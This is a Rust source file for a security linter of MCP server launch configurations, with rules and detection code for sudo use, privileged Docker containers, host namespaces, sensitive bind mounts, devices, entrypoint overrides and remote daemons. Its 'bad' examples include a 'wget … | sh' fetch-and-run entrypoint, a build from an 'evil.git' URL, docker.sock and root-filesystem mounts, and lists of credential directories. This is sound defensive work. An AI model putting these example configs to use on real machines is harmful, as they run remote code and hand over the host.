//! MW6xx — containers and privilege: `sudo`, `docker run --privileged`, host namespaces,
//! sensitive bind mounts, devices, entrypoint overrides, other subcommands, remote daemons.

use warden_core::{RuleInfo, Severity};

use super::refs::*;
use crate::engine::{self, Arg, Ctx, Frame, show, show_argv};
use crate::program::{self, Program};
use crate::shell::{self, Dialect};

const FAMILY: &str = "containment";

pub static PRIVILEGE: RuleInfo = RuleInfo {
    id: "MW601",
    name: "privilege-escalation",
    family: FAMILY,
    severity: Severity::High,
    title: "The server is started with elevated privileges",
    what: "Detects `sudo`, `doas`, `pkexec`, `run0`, `su -c`, `runas`, `gosu` in the launch, \
           including inside scripts; the command they run is analysed too.",
    why: "An MCP server runs with the user's rights already; as root every bug or injected \
          prompt becomes full control of the machine, and a config line becomes a way to use \
          cached sudo credentials.",
    fix: "Run the server as the user; grant it only the files it needs (a container with \
          narrow mounts, `mcp-warden run`).",
    bad: &[
        r#"{"command":"sudo","args":["npx","-y","@modelcontextprotocol/server-filesystem","/"]}"#,
    ],
    good: &[
        r#"{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/home/user/docs"]}"#,
    ],
    references: &[CWE_250, CWE_269, MCP_SECURITY],
};

pub static PRIVILEGED_CONTAINER: RuleInfo = RuleInfo {
    id: "MW602",
    name: "privileged-container",
    family: FAMILY,
    severity: Severity::High,
    title: "The container runs privileged or with extra capabilities",
    what: "Detects `--privileged`, `--cap-add` (high for `ALL`, `SYS_ADMIN`, `SYS_PTRACE`, \
           `SYS_MODULE`, `DAC_READ_SEARCH`, `NET_ADMIN`, …, medium for others), `--security-opt` disabling \
           seccomp, AppArmor, SELinux labels or `no-new-privileges`, `--userns=host`, \
           `--cgroupns=host`.",
    why: "A privileged container is root on the host with extra steps: it sees every device and \
          can mount the host's disk. The isolation the container seemed to offer is gone.",
    fix: "Drop the flags; MCP servers need no capabilities beyond the default set \
          (`--cap-drop ALL` is better still).",
    bad: &[r#"{"command":"docker","args":["run","--rm","-i","--privileged","mcp/fetch"]}"#],
    good: &[r#"{"command":"docker","args":["run","--rm","-i","--cap-drop","ALL","mcp/fetch"]}"#],
    references: &[DOCKER_RUN, OWASP_DOCKER],
};

pub static HOST_NAMESPACE: RuleInfo = RuleInfo {
    id: "MW603",
    name: "host-namespace",
    family: FAMILY,
    severity: Severity::High,
    title: "The container shares the host's namespaces",
    what: "Detects `--pid=host`, `--ipc=host`, `--uts=host` (high), `--network=host` / \
           `--net=host` (medium), and `nsenter`/`chroot` run in the container: critical when the \
           container's flags or mounts give it the host, since that runs a shell on the host.",
    why: "With the host's PID namespace a container can `nsenter` into any host process; with \
          the host network it reaches every service bound to localhost (databases, admin \
          consoles, other MCP servers).",
    fix: "Remove the flag; publish only the ports the server needs.",
    bad: &[r#"{"command":"docker","args":["run","--rm","-i","--pid=host","mcp/fetch"]}"#],
    good: &[r#"{"command":"docker","args":["run","--rm","-i","mcp/fetch"]}"#],
    references: &[DOCKER_RUN, OWASP_DOCKER],
};

pub static SENSITIVE_MOUNT: RuleInfo = RuleInfo {
    id: "MW604",
    name: "sensitive-mount",
    family: FAMILY,
    severity: Severity::High,
    title: "A sensitive host path is mounted into the container",
    what: "Detects bind mounts (`-v`, `--volume`, `--mount type=bind`) of `/`, `/etc`, `/root`, \
           `/proc`, `/sys`, `/dev`, `/var/run/docker.sock` and other container sockets, \
           `~/.ssh`, `~/.aws`, `~/.kube`, `~/.gnupg`, `~/.docker`, `C:\\`, and `--volumes-from`; \
           a whole home directory is medium. Named volumes and narrow directories are fine.",
    why: "These break containment (high); what then runs in the container is judged as \
          running on the host. The Docker socket is root on the host; `/` or `/etc` let the container rewrite the \
          system; credential directories hand over keys. The container boundary no longer \
          protects anything.",
    fix: "Mount only the directories the server works on, read-only where possible \
          (`--mount type=bind,src=/home/user/project,dst=/project,ro`).",
    bad: &[
        r#"{"command":"docker","args":["run","--rm","-i","-v","/var/run/docker.sock:/var/run/docker.sock","docker:cli"]}"#,
        r#"{"command":"docker","args":["run","--rm","-i","-v","/:/host","alpine"]}"#,
    ],
    good: &[
        r#"{"command":"docker","args":["run","-i","--rm","--mount","type=bind,src=/Users/username/Desktop,dst=/projects/Desktop","mcp/filesystem","/projects"]}"#,
        r#"{"command":"docker","args":["run","-i","-v","claude-memory:/app/dist","--rm","mcp/memory"]}"#,
    ],
    references: &[DOCKER_RUN, OWASP_DOCKER],
};

pub static DEVICE: RuleInfo = RuleInfo {
    id: "MW605",
    name: "container-device",
    family: FAMILY,
    severity: Severity::High,
    title: "A host device is passed into the container",
    what: "Detects `--device` and `--device-cgroup-rule`.",
    why: "Raw devices (disks, `/dev/mem`, USB, GPUs) give the container direct access to \
          hardware and data outside its filesystem.",
    fix: "Remove the device unless the server genuinely drives that hardware.",
    bad: &[r#"{"command":"docker","args":["run","--rm","-i","--device","/dev/sda","mcp/fetch"]}"#],
    good: &[r#"{"command":"docker","args":["run","--rm","-i","mcp/fetch"]}"#],
    references: &[DOCKER_RUN],
};

pub static ENTRYPOINT: RuleInfo = RuleInfo {
    id: "MW606",
    name: "entrypoint-override",
    family: FAMILY,
    severity: Severity::High,
    title: "The image's entrypoint is replaced",
    what: "Detects `--entrypoint`; high when it is a shell or interpreter, whose script is then \
           analysed as running inside the container.",
    why: "A trusted image name no longer says what runs: the config picks the program, with \
          the container's network access and mounted secrets.",
    fix: "Run the image as published; pass options as arguments after the image.",
    bad: &[
        r#"{"command":"docker","args":["run","-i","--rm","--entrypoint","/bin/sh","mcp/fetch","-c","wget -qO- https://example.com/x | sh"]}"#,
    ],
    good: &[r#"{"command":"docker","args":["run","-i","--rm","mcp/fetch"]}"#],
    references: &[FLOWISE_PR_5943],
};

pub static NOT_RUN: RuleInfo = RuleInfo {
    id: "MW607",
    name: "container-not-run",
    family: FAMILY,
    severity: Severity::High,
    title: "The container tool does something other than `run` an image",
    what: "Detects `docker build` (critical from a URL or git context), `docker exec`, \
           `docker compose`, `docker cp`, `docker load`, and other subcommands of docker, \
           podman and nerdctl.",
    why: "`docker build` runs the Dockerfile's `RUN` steps on the host's daemon (with a remote \
          context, a Dockerfile the config chooses: Flowise CVE-2026-56274); `exec` enters an \
          existing container; compose files say elsewhere what starts.",
    fix: "Use `docker run -i --rm <image>` with a published, pinned image.",
    bad: &[r#"{"command":"docker","args":["build","https://github.com/example/evil.git"]}"#],
    good: &[r#"{"command":"docker","args":["run","-i","--rm","mcp/time"]}"#],
    references: &[FLOWISE_PR_5943],
};

pub static REMOTE_DAEMON: RuleInfo = RuleInfo {
    id: "MW608",
    name: "remote-container-daemon",
    family: FAMILY,
    severity: Severity::High,
    title: "The container runs on a daemon the config chooses",
    what: "Detects `docker -H`/`--host` and `DOCKER_HOST` pointing anywhere but the local socket.",
    why: "Containers then run on another machine (or one reachable over TCP without TLS), and \
          the local mounts and environment are sent there.",
    fix: "Use the local daemon.",
    bad: &[
        r#"{"command":"docker","args":["-H","tcp://203.0.113.10:2375","run","-i","--rm","mcp/time"]}"#,
    ],
    good: &[r#"{"command":"docker","args":["run","-i","--rm","mcp/time"]}"#],
    references: &[OWASP_DOCKER],
};

/// `sudo …`, `doas …`, `su -c …`.
pub fn privilege(cx: &mut Ctx, prog: &Program, argv: &[Arg], frame: &Frame) {
    let b = prog.base.as_str();
    if b == "su" {
        if let Some(pos) = argv
            .iter()
            .position(|a| a.text == "-c" || a.text == "--command")
            && let Some(s) = argv.get(pos + 1)
        {
            cx.emit(
                &PRIVILEGE,
                Severity::High,
                &argv[0].field,
                frame,
                format!(
                    "`su -c` runs `{}` as another user (root by default).",
                    show(&s.text)
                ),
            );
            let f = frame.push("su -c").in_shell();
            let sc = shell::parse(&s.text, Dialect::Posix);
            engine::script_walk(cx, &sc, &s.field, &f, Dialect::Posix);
            return;
        }
        cx.emit(
            &PRIVILEGE,
            Severity::High,
            &argv[0].field,
            frame,
            "`su` starts a shell as another user.".to_string(),
        );
        return;
    }
    let valued: &[&str] = match b {
        "sudo" => &[
            "-u",
            "--user",
            "-g",
            "--group",
            "-p",
            "--prompt",
            "-C",
            "--close-from",
            "-D",
            "--chdir",
            "-r",
            "--role",
            "-t",
            "--type",
            "-U",
            "--other-user",
            "-T",
            "--command-timeout",
            "-h",
            "--host",
            "-R",
            "--chroot",
        ],
        "doas" => &["-u", "-C"],
        "pkexec" => &["--user"],
        "runas" => &[],
        _ => &[],
    };
    let mut i = 1;
    let mut shell_mode = false;
    while i < argv.len() {
        let t = argv[i].text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if b == "runas" && t.starts_with('/') {
            i += 1;
            continue;
        }
        if t.starts_with('-') {
            if matches!(t, "-s" | "--shell" | "-i" | "--login") {
                shell_mode = true;
            }
            i += if valued.contains(&t) { 2 } else { 1 };
            continue;
        }
        if b == "sudo" && t.contains('=') && !t.starts_with('/') {
            let (n, v) = t.split_once('=').unwrap_or((t, ""));
            crate::rules::env::check_var(cx, n, Some(v), &argv[i].field.clone(), frame);
            i += 1;
            continue;
        }
        break;
    }
    let rest: Vec<Arg> = argv[i.min(argv.len())..].to_vec();
    cx.emit(
        &PRIVILEGE,
        Severity::High,
        &argv[0].field,
        frame,
        format!("`{}` runs `{}` with elevated privileges: every bug or injected instruction in it acts as root.", prog.base, if rest.is_empty() { "a shell".to_string() } else { show_argv(&rest) }),
    );
    if rest.is_empty() {
        return;
    }
    let f = frame.push(prog.base.clone());
    if shell_mode || b == "runas" && rest.len() == 1 {
        let text = rest
            .iter()
            .map(|a| a.text.clone())
            .collect::<Vec<_>>()
            .join(" ");
        let sc = shell::parse(
            &text,
            if b == "runas" {
                Dialect::Cmd
            } else {
                Dialect::Posix
            },
        );
        engine::script_walk(cx, &sc, &rest[0].field, &f.in_shell(), Dialect::Posix);
    } else {
        engine::visit(cx, rest, &f);
    }
}

/// `DOCKER_HOST` / `-H`.
pub fn docker_host(cx: &mut Ctx, v: &str, field: &str, frame: &Frame) {
    let l = v.trim().to_ascii_lowercase();
    if l.is_empty()
        || l.starts_with("unix://")
        || l.starts_with("npipe://")
        || l.starts_with("tcp://127.")
        || l.starts_with("tcp://localhost")
        || l.starts_with('$')
    {
        return;
    }
    cx.emit(&REMOTE_DAEMON, Severity::High, field, frame, format!("The container daemon is `{}`: containers run there, with this launch's mounts and environment sent along.", show(v)));
}

const RUN_VALUED: &[&str] = &[
    "-e",
    "--env",
    "--env-file",
    "-v",
    "--volume",
    "--mount",
    "--name",
    "-p",
    "--publish",
    "--network",
    "--net",
    "--pid",
    "--ipc",
    "--uts",
    "--userns",
    "--cgroupns",
    "--cap-add",
    "--cap-drop",
    "--security-opt",
    "--device",
    "--entrypoint",
    "-u",
    "--user",
    "-w",
    "--workdir",
    "-l",
    "--label",
    "--label-file",
    "--platform",
    "--add-host",
    "--dns",
    "--dns-search",
    "--dns-option",
    "-m",
    "--memory",
    "--cpus",
    "--restart",
    "--log-driver",
    "--log-opt",
    "-h",
    "--hostname",
    "--runtime",
    "--volumes-from",
    "--tmpfs",
    "--ulimit",
    "--gpus",
    "--shm-size",
    "--stop-signal",
    "--health-cmd",
    "--health-interval",
    "--health-retries",
    "--health-timeout",
    "--health-start-period",
    "--pull",
    "--group-add",
    "--link",
    "--mac-address",
    "--ip",
    "--ip6",
    "--sysctl",
    "--cidfile",
    "-a",
    "--attach",
    "--device-cgroup-rule",
    "--expose",
    "--isolation",
    "--memory-swap",
    "--memory-reservation",
    "--oom-score-adj",
    "--pids-limit",
    "--storage-opt",
    "--stop-timeout",
    "--annotation",
    "-c",
    "--cpu-shares",
    "--cpuset-cpus",
    "--cpuset-mems",
    "--detach-keys",
    "--domainname",
    "--blkio-weight",
    "--kernel-memory",
    "--network-alias",
    "--cgroup-parent",
    "--uidmap",
    "--gidmap",
    "--subuidname",
    "--subgidname",
    "--arch",
    "--os",
    "--variant",
    "--hooks-dir",
    "--secret",
    "--pod",
    "--userns-mode",
    "--cpu-period",
    "--cpu-quota",
    "--memory-swappiness",
    "--log-level",
    "--init-path",
    "--env-host",
    "--requires",
    "--sdnotify",
    "--seccomp-policy",
    "--timeout",
    "--tz",
    "--umask",
    "--passwd-entry",
    "--chrootdirs",
    "--preserve-fds",
    "--image-volume",
];

/// `docker`, `podman`, `nerdctl`, `finch`, `docker-compose`.
pub fn container(cx: &mut Ctx, prog: &Program, argv: &[Arg], frame: &Frame) {
    let tool = prog.base.clone();
    if tool == "docker-compose" {
        cx.emit(&NOT_RUN, Severity::Medium, &argv[0].field, frame, "`docker-compose` starts whatever the compose file defines; the launch line does not say what runs or with which mounts.".to_string());
        return;
    }
    // Global options.
    let mut i = 1;
    while i < argv.len() && argv[i].text.starts_with('-') {
        let t = argv[i].text.as_str();
        let (flag, inline) = match t.split_once('=') {
            Some((f, v)) => (f, Some(v.to_string())),
            None => (t, None),
        };
        let takes = matches!(
            flag,
            "-H" | "--host"
                | "--context"
                | "-c"
                | "--config"
                | "-l"
                | "--log-level"
                | "--tlscacert"
                | "--tlscert"
                | "--tlskey"
                | "--url"
                | "--connection"
                | "--namespace"
                | "-n"
                | "--address"
                | "--root"
                | "--storage-driver"
                | "--runroot"
        );
        if matches!(flag, "-H" | "--host" | "--url") {
            let v = inline
                .clone()
                .or_else(|| argv.get(i + 1).map(|a| a.text.clone()))
                .unwrap_or_default();
            let field = if inline.is_some() {
                argv[i].field.clone()
            } else {
                argv.get(i + 1).map(|a| a.field.clone()).unwrap_or_default()
            };
            docker_host(cx, &v, &field, frame);
        }
        i += if takes && inline.is_none() { 2 } else { 1 };
    }
    let Some(sub) = argv.get(i) else { return };
    let mut s = sub.text.as_str();
    if s == "container"
        && argv
            .get(i + 1)
            .is_some_and(|a| a.text == "run" || a.text == "create")
    {
        i += 1;
        s = argv[i].text.as_str();
    }
    match s {
        "run" | "create" => run(cx, &tool, argv, i + 1, frame),
        "build" | "buildx" | "image" if s != "image" || argv.get(i + 1).is_some_and(|a| a.text == "build") => {
            let remote = argv[i + 1..].iter().find(|a| {
                let l = a.text.to_ascii_lowercase();
                l.starts_with("http://") || l.starts_with("https://") || l.starts_with("git@") || l.starts_with("git://") || l.starts_with("github.com/")
            });
            match remote {
                Some(r) => cx.emit(&NOT_RUN, Severity::Critical, &r.field, frame, format!("`{tool} build {}` builds a Dockerfile fetched from that repository or URL: its `RUN` steps execute on this machine's daemon.", show(&r.text))),
                None => cx.emit(&NOT_RUN, Severity::High, &sub.field, frame, format!("`{tool} build` runs a Dockerfile's `RUN` steps instead of starting a server.")),
            }
        }
        "exec" => cx.emit(&NOT_RUN, Severity::Medium, &sub.field, frame, format!("`{tool} exec` runs a command in an already running container (`{}`); what that container is, is decided elsewhere.", show_argv(&argv[i..]))),
        "compose" => cx.emit(&NOT_RUN, Severity::Medium, &sub.field, frame, format!("`{tool} compose` starts whatever the compose file defines; the launch line does not say what runs or with which mounts.")),
        "start" | "attach" => {}
        "mcp" | "model" | "sandbox" => {}
        _ => cx.emit(&NOT_RUN, Severity::High, &sub.field, frame, format!("`{tool} {}` does not start an MCP server container.", show(s))),
    }
}

fn mount_risk(src: &str) -> Option<(Severity, &'static str)> {
    let raw = engine::resolve_home(src.trim());
    let n = crate::rules::location::normalize(&raw);
    let n = n.trim_end_matches('/');
    if n.contains("docker.sock")
        || n.contains("podman.sock")
        || n.contains("containerd.sock")
        || n.contains("docker_engine")
        || n.ends_with("/run/docker")
    {
        return Some((
            Severity::High,
            "the container daemon's socket, which is root on the host",
        ));
    }
    if n.is_empty() && raw.starts_with('/') || n == "/" || n == "c:" || n == "c:/" {
        return Some((Severity::High, "the host's whole filesystem"));
    }
    for p in [
        "/etc",
        "/root",
        "/proc",
        "/sys",
        "/dev",
        "/boot",
        "/var/lib/docker",
        "/usr",
        "/bin",
        "/sbin",
        "/lib",
        "/var/run",
        "/run",
        "c:/windows",
        "/private/etc",
    ] {
        if n == p
            || n.starts_with(&format!("{p}/"))
                && matches!(
                    p,
                    "/etc" | "/root" | "/proc" | "/sys" | "/boot" | "/var/lib/docker"
                )
        {
            return Some((Severity::High, "a system directory"));
        }
    }
    for s in [
        ".ssh",
        ".aws",
        ".kube",
        ".gnupg",
        ".docker",
        ".config/gcloud",
        ".azure",
        ".netrc",
        ".npmrc",
        ".pypirc",
        ".git-credentials",
        ".password-store",
        "keychains",
    ] {
        if n.split('/').any(|c| c == s)
            || n.ends_with(&format!("/{s}"))
            || n.contains(&format!("/{s}/"))
        {
            return Some((Severity::High, "a directory of credentials"));
        }
    }
    if matches!(n, "/home" | "/users" | "c:/users") {
        return Some((Severity::High, "every user's home directory"));
    }
    let parts: Vec<&str> = n.split('/').filter(|p| !p.is_empty()).collect();
    let home = n == "~"
        || n.is_empty() && raw.starts_with('~')
        || (parts.len() == 2 && matches!(parts[0], "home" | "users"))
        || (parts.len() == 3 && parts[0] == "c:" && parts[1] == "users")
        || raw == "$HOME"
        || raw == "${HOME}"
        || raw == "%USERPROFILE%";
    if home {
        return Some((
            Severity::Medium,
            "a whole home directory, with its keys, tokens and dotfiles",
        ));
    }
    None
}

fn is_bind_source(src: &str) -> bool {
    let s = src.trim();
    s.starts_with('/')
        || s.starts_with('~')
        || s.starts_with('.')
        || s.starts_with('$')
        || s.starts_with('%')
        || s.starts_with("\\\\")
        || (s.len() > 1 && s.as_bytes()[1] == b':' && s.as_bytes()[0].is_ascii_alphabetic())
}

fn volume_source(v: &str) -> Option<String> {
    // `C:\x:/dst` — keep the drive letter.
    let s = v.trim();
    if s.len() > 2 && s.as_bytes()[1] == b':' && s.as_bytes()[0].is_ascii_alphabetic() {
        let rest = &s[2..];
        return Some(format!(
            "{}{}",
            &s[..2],
            rest.split(':').next().unwrap_or(rest)
        ));
    }
    let src = s.split(':').next().unwrap_or(s);
    is_bind_source(src).then(|| src.to_string())
}

fn mount_source(v: &str) -> Option<String> {
    let mut kind = "volume";
    let mut src = None;
    for kv in v.split(',') {
        let (k, val) = kv.split_once('=').unwrap_or((kv, ""));
        match k.trim() {
            "type" => kind = if val == "bind" { "bind" } else { "other" },
            "src" | "source" => src = Some(val.to_string()),
            _ => {}
        }
    }
    match (kind, src) {
        ("bind", Some(s)) => Some(s),
        (_, Some(s)) if is_bind_source(&s) => Some(s),
        _ => None,
    }
}

fn run(cx: &mut Ctx, tool: &str, argv: &[Arg], start: usize, frame: &Frame) {
    let mut i = start;
    let mut entrypoint: Option<Arg> = None;
    // Whether the flags break the container boundary (then what runs inside acts on the host).
    let mut breaks = false;
    let mut socket = false;
    while i < argv.len() {
        let a = &argv[i];
        let t = a.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with('-') || t == "-" {
            break;
        }
        let (flag, inline) = match t.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(Arg::new(v, a.field.clone()))),
            _ => (t, None),
        };
        // Short flags with attached values: `-v/x:/y`, `-eNAME=v`.
        let (flag, inline) = if inline.is_none()
            && !flag.starts_with("--")
            && flag.len() > 2
            && matches!(&flag[..2], "-e" | "-v" | "-p" | "-u" | "-w" | "-m" | "-l")
        {
            (&flag[..2], Some(Arg::new(&t[2..], a.field.clone())))
        } else {
            (flag, inline)
        };
        let takes = RUN_VALUED.contains(&flag);
        let value = inline.clone().or_else(|| {
            if takes {
                argv.get(i + 1).cloned()
            } else {
                None
            }
        });
        let vtext = value.as_ref().map(|v| v.text.clone()).unwrap_or_default();
        let vfield = value
            .as_ref()
            .map(|v| v.field.clone())
            .unwrap_or_else(|| a.field.clone());
        match flag {
            "--privileged" => {
                breaks = true;
                cx.emit(&PRIVILEGED_CONTAINER, Severity::High, &a.field, frame, format!("`{tool} run --privileged` gives the container every capability and device of the host: it is root on the host with extra steps."));
            }
            "--cap-add" => {
                let caps = vtext.to_ascii_uppercase();
                let bad = [
                    "ALL",
                    "SYS_ADMIN",
                    "SYS_PTRACE",
                    "SYS_MODULE",
                    "DAC_READ_SEARCH",
                    "DAC_OVERRIDE",
                    "NET_ADMIN",
                    "SYS_RAWIO",
                    "SYS_BOOT",
                    "BPF",
                    "PERFMON",
                ];
                let dangerous = bad.iter().any(|c| {
                    caps.split(',')
                        .any(|x| x.trim().trim_start_matches("CAP_") == *c)
                });
                breaks |= dangerous
                    && (caps.contains("ALL")
                        || caps.contains("SYS_ADMIN")
                        || caps.contains("SYS_MODULE")
                        || caps.contains("SYS_PTRACE"));
                cx.emit(&PRIVILEGED_CONTAINER, if dangerous { Severity::High } else { Severity::Medium }, &vfield, frame, format!("`--cap-add {}` gives the container kernel privileges it does not have by default.", show(&vtext)));
            }
            "--security-opt" => {
                let l = vtext.to_ascii_lowercase();
                if l.contains("unconfined")
                    || l.contains("label=disable")
                    || l.contains("label:disable")
                    || l.contains("no-new-privileges=false")
                    || l.contains("no-new-privileges:false")
                {
                    cx.emit(&PRIVILEGED_CONTAINER, Severity::High, &vfield, frame, format!("`--security-opt {}` switches off a kernel protection of the container.", show(&vtext)));
                }
            }
            "--userns" | "--cgroupns" | "--userns-mode" if vtext == "host" => {
                cx.emit(
                    &PRIVILEGED_CONTAINER,
                    Severity::High,
                    &vfield,
                    frame,
                    format!(
                        "`{flag}=host` shares the host's {} namespace.",
                        flag.trim_start_matches("--")
                    ),
                );
            }
            "--pid" | "--ipc" | "--uts" if vtext == "host" || vtext.starts_with("container:") => {
                breaks |= flag == "--pid";
                cx.emit(&HOST_NAMESPACE, Severity::High, &vfield, frame, format!("`{flag}={}` shares {} with the container: it can see and signal those processes.", show(&vtext), if vtext == "host" { "the host's namespace" } else { "another container's namespace" }));
            }
            "--network" | "--net" if vtext == "host" => {
                cx.emit(&HOST_NAMESPACE, Severity::Medium, &vfield, frame, format!("`{flag}=host` puts the container on the host's network: it reaches every service bound to localhost."));
            }
            "-v" | "--volume" | "--mount" => {
                let src = if flag == "--mount" {
                    mount_source(&vtext)
                } else {
                    volume_source(&vtext)
                };
                if let Some(src) = src
                    && let Some((sev, what)) = mount_risk(&src)
                {
                    if what.contains("socket") {
                        socket = true;
                    }
                    breaks |= sev >= Severity::High && !what.contains("credentials");
                    cx.emit(
                        &SENSITIVE_MOUNT,
                        sev,
                        &vfield,
                        frame,
                        format!(
                            "`{flag} {}` mounts {what} into the container.",
                            show(&vtext)
                        ),
                    );
                }
            }
            "--volumes-from" => cx.emit(
                &SENSITIVE_MOUNT,
                Severity::High,
                &vfield,
                frame,
                format!(
                    "`--volumes-from {}` mounts every volume of another container.",
                    show(&vtext)
                ),
            ),
            "--device" | "--device-cgroup-rule" => cx.emit(
                &DEVICE,
                Severity::High,
                &vfield,
                frame,
                format!(
                    "`{flag} {}` passes host hardware into the container.",
                    show(&vtext)
                ),
            ),
            "--entrypoint" => entrypoint = value.clone(),
            "-e" | "--env" => {
                if let Some((n, v)) = vtext.split_once('=') {
                    let f = frame.clone().lowered("inside the container");
                    crate::rules::env::check_var(cx, n, Some(v), &vfield, &f);
                }
            }
            _ => {}
        }
        i += if takes && inline.is_none() { 2 } else { 1 };
    }
    let Some(image) = argv.get(i) else { return };
    image_pin(cx, tool, image, frame);
    let rest: Vec<Arg> = argv[i + 1..].to_vec();
    let layer = format!("{tool} run {}", show(&image.text));
    let inside = if breaks {
        frame.push(layer.clone())
    } else {
        frame.push(layer.clone()).lowered(format!(
            "it runs inside the container `{}`",
            show(&image.text)
        ))
    };
    let mut argv2: Vec<Arg> = Vec::new();
    if let Some(ep) = entrypoint {
        let p = Program::parse(&ep.text);
        let shellish = program::SHELLS.contains(&p.base.as_str())
            || program::INTERPRETERS.contains(&p.base.as_str())
            || p.base == "env";
        cx.emit(&ENTRYPOINT, if shellish { Severity::High } else { Severity::Medium }, &ep.field, frame, format!("`--entrypoint {}` replaces the program of `{}`: the image name no longer says what runs{}.", show(&ep.text), show(&image.text), if shellish { ", and a shell or interpreter runs whatever follows" } else { "" }));
        argv2.push(ep);
        argv2.extend(rest);
    } else if let Some(first) = rest.first() {
        let p = Program::parse(&first.text);
        let image_base = image
            .text
            .rsplit('/')
            .next()
            .unwrap_or(&image.text)
            .split([':', '@'])
            .next()
            .unwrap_or("");
        if socket
            && (image_base == "docker"
                || matches!(
                    p.base.as_str(),
                    "run" | "exec" | "build" | "compose" | "create"
                ))
            && p.base != "docker"
        {
            // A docker client image with the host's socket: its arguments are docker commands
            // run by the host's daemon.
            argv2.push(Arg::new("docker", first.field.clone()));
            argv2.extend(rest);
        } else if program::SHELLS.contains(&p.base.as_str())
            || program::INTERPRETERS.contains(&p.base.as_str())
            || program::NON_SERVER_ACTIVE.contains(&p.base.as_str())
            || matches!(
                p.base.as_str(),
                "nsenter" | "chroot" | "env" | "sudo" | "docker"
            )
        {
            argv2 = rest;
        }
    }
    if let Some(first) = argv2.first() {
        let p = Program::parse(&first.text);
        if matches!(p.base.as_str(), "nsenter" | "chroot") {
            let (sev, what) = if breaks {
                (
                    Severity::Critical,
                    "with the host's namespaces or filesystem available, this runs as root on the host",
                )
            } else {
                (Severity::High, "it enters another root or namespace")
            };
            cx.emit(
                &HOST_NAMESPACE,
                sev,
                &first.field,
                frame,
                format!("The container runs `{}`: {what}.", show_argv(&argv2)),
            );
        }
        engine::visit(cx, argv2, &inside);
    }
}

fn image_pin(cx: &mut Ctx, tool: &str, image: &Arg, frame: &Frame) {
    let t = image.text.as_str();
    if t.contains("@sha256:") || frame.lower > 0 {
        return;
    }
    let last = t.rsplit('/').next().unwrap_or(t);
    let tag = last.split_once(':').map(|(_, tag)| tag);
    let why = match tag {
        None => "has no tag, so it means `latest`",
        Some("latest") => "is tagged `latest`",
        Some(_) => return,
    };
    cx.emit(&crate::rules::packages::UNPINNED, Severity::Low, &image.field, frame, format!("The image `{}` {why}: every pull may bring a different image. Pin a version tag or a digest (`@sha256:…`) for `{tool} run`.", show(t)));
}
